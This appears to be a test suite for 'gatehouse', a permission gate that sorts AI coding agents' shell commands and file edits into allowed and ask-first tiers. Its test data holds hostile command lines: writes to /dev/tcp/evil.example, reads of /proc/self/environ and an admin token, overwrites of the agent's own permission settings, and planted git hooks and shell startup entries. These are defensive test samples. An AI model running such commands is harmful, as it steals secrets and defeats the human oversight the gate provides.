    // The folders the call runs in hold everything: adding to them is not replacing a release.
    'cd yarnapp && cp /dev/null .',
  ])('%s: other files beside a yarnrc are written as the rules say', (command) => {
    expect(bash(command).tier).toBe('auto');
  });

  it('special files: /proc/<pid>, /proc/self, /dev/tcp', () => {
    expect(specialDevice('/proc/123/mem')).toMatch(/memory/);
    expect(specialDevice('/proc/self/environ')).toMatch(/memory/);
    expect(specialDevice('/proc/x/environ')).toMatch(/memory/);
    expect(specialDevice('/dev/tcp/evil.example/80')).toMatch(/network/);
    expect(specialDevice('/proc/cpuinfo')).toBeUndefined();
  });

  it('the hook’s mapping reads paths plainly (// and a/.. collapse)', () => {
    expect(plainPath('/p/.claude//./settings.json')).toBe('/p/.claude/settings.json');
    expect(plainPath('x/../.claude/settings.json')).toBe('.claude/settings.json');
  });
});

describe('classification: every attack asks, whatever the rules', () => {
  it.each([
    [`cat $PWD/../../.local/share/gatehouse/admin.token`, 'protected:gatehouse'],
    [`cat $X/../../.local/share/gatehouse/admin.token`, 'protected:unresolved_path'],
    [`cat $X/$Y/${data}/admin.token`, 'protected:unresolved_path'],
    [`cat ~alice/.local/share/gatehouse/admin.token`, 'protected:gatehouse'],
    [`cat ~nobody-here/../x`, 'protected:unresolved_path'],
    [`cat \${X:-/etc}/passwd`, 'protected:unresolved_path'],
    ['cd /proc/1 && xxd mem', 'protected:special_file'],
    ['cat /proc/self/environ', 'protected:special_file'],
    ['echo hi > /dev/tcp/evil.example/80', 'protected:special_file'],
    ['sort -o .claude//settings.json x', 'protected:change_gatehouse_policy'],
    ['cd .claude && sort -o settings.json x', 'protected:change_gatehouse_policy'],
    ['cd .claude && echo {} > settings.json', 'protected:change_gatehouse_policy'],
    ['sort -o conf/settings.json x', 'protected:change_gatehouse_policy'],
    ['cp x ../app/.claude/settings.json', 'protected:change_gatehouse_policy'],
    ['sort -o .{claude,x}/settings.json y', 'protected:change_gatehouse_policy'],
    ['tee .mcp.json < x', 'protected:change_gatehouse_policy'],
    ['cp x ~/.codex/config.toml', 'protected:change_gatehouse_policy'],
    ['echo x >> .git/config', 'protected:vcs_config'],
    ['cp evil .git/hooks/pre-commit', 'protected:vcs_config'],
    ['cp evil tools/hooks/pre-commit', 'protected:vcs_config'],
    ['echo evil >> ~/.bashrc', 'protected:startup_config'],
    ['sed -i s/a/b/ ~/.npmrc', 'protected:startup_config'],
    ['cd deep/.. && cp x ../../home/.bashrc', 'protected:startup_config'],
    // Config files written without being named.
    ['git config core.fsmonitor "touch /tmp/x"', 'protected:vcs_config'],
    ['cd sub && git remote set-url origin /tmp/evil.git', 'protected:vcs_config'],
    ['git config --global alias.st "!sh -c id"', 'protected:startup_config'],
    ['npm config set script-shell ./evil.sh', 'protected:startup_config'],
    ['cat $(ls ~/.local/share/*/admin.token)', 'protected:gatehouse'],
    // Files named inside an archive or patch.
    ['tar xzf a.tgz', 'protected:vcs_config'],
    ['unzip -o a.zip -d sub', 'protected:vcs_config'],
    ['patch -p1 < fix.diff', 'protected:vcs_config'],
    ['git apply fix.diff', 'protected:vcs_config'],
    // Variables and directories the line changes itself.
    ['cd - && cat admin.token', 'protected:unresolved_path'],
    ['CDPATH=~/.local/share cd gatehouse && cat admin.token', 'protected:gatehouse'],
    ['HOME=~/.local/share/gatehouse; cat ~/admin.token', 'protected:gatehouse'],
    ['HOME=$HOME/.local/share/gatehouse; cat $HOME/admin.token', 'protected:gatehouse'],
    ['X=README.md; read X < list; cat $X', 'protected:unresolved_path'],
    ['while read f; do cat "$f"; done < list', 'protected:unresolved_path'],
    ['D=$D/x; cat $D/y', 'protected:unresolved_path'],
    ['cat ${X:=/etc}/passwd', 'protected:unresolved_path'],
  ])('%s → %s', (command, rule) => {
    const c = bash(command);
    // `read`, or a variable that names itself, is not proven harmless either: that may say first.
    if (c.rule === 'shell:opaque' && rule === 'protected:unresolved_path')
      expect(c).toMatchObject({ tier: 'ask', risk: 'high' });
    else expect(c).toMatchObject({ tier: 'ask', rule, risk: 'critical' });
  });

  it.each([
    ['Write', 'write_file', `${project}/.claude//settings.json`],
    ['Edit', 'edit_file', 'conf/settings.local.json'],
    ['Write', 'write_file', '.git/hooks/post-checkout'],
    ['Write', 'write_file', '~/.bashrc'],
  ])('%s of %s asks, critical', (_, action, path) => {
    expect(classify({ action, paths: [path] })).toMatchObject({ tier: 'ask', risk: 'critical' });
  });

  it.each([
    ['claude-code', 'MultiEdit', { file_path: '.git/hooks/pre-commit', edits: [] }],
    ['claude-code', 'Write', { file_path: '~/.bashrc', content: 'x' }],
    [
      'codex',
      'apply_patch',
      { command: '*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+x\n*** End Patch' },
    ],
    ['gemini', 'replace', { file_path: `${project}/.gemini//settings.json` }],
    ['gemini', 'write_file', { file_path: `${home}/.npmrc` }],
    ['opencode', 'write', { filePath: 'opencode.json' }],
    ['copilot', 'create', { path: '.github/hooks/x.json' }],
    ['cursor', 'StrReplace', { file_path: 'conf/settings.json' }],
  ] as const)('%s %s of a protected location asks, critical', (agent, tool, input) => {
    const mapping = agentToolAction(agent, tool, { ...input }, shell);
    if (mapping.kind !== 'gate') throw new Error('not gated');
    const verdicts = mapping.candidates.map((c) =>
      classify(mapping.command === undefined ? c : { ...c, command: mapping.command }),
    );
    expect(verdicts.some((v) => v.tier === 'ask' && v.risk === 'critical')).toBe(true);
  });

  it('everyday work in the project stays as before', () => {
    for (const command of [
      'cat README.md && ls src',
      'cd sub && ls',
      'grep -rn "foo$" src',
      'for f in src/*.ts; do wc -l "$f"; done',
      'git -C sub status',
      'cat .claude/settings.json',
      'echo $HOME $PATH',
      'git config --get user.name',
      'tar tzf a.tgz',
      'tar czf box.tgz src',
      'git apply --stat fix.diff',
    ])
      expect({ command, ...classify({ action: 'read_file', command }, []) }).toMatchObject({
        command,
        tier: 'auto',
      });
  });
});
